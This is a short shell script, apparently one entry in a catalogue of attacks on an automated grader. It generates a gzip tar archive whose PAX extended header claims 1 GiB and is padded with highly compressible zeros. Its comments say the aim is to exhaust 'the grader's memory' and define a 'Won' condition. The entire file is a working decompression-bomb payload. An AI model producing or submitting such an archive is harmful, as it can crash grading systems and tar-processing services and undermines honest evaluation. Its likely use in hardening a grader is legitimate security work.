# SPDX-License-Identifier: MIT
# shellcheck shell=sh disable=SC2154,SC2034
#
# Idea: A header of a tar archive may be as long as a file, and is read at once.
# Wants: the grader's memory
# Seen by: time, memory
# Told: whole
# Won: test "$(tar -xOzf "$answer" 2>/dev/null | wc -c)" = 0
answer=$sub.tar
python3 - "$answer" <<'PYTHON'
import gzip, sys, tarfile
size = 1 << 30
head = tarfile.TarInfo("././@PaxHeader")
head.size = size
head.type = tarfile.XHDTYPE
with gzip.open(sys.argv[1], "wb", 1) as out:
    out.write(head.tobuf(tarfile.USTAR_FORMAT))
    for _ in range(size >> 24):
        out.write(bytes(1 << 24))
PYTHON
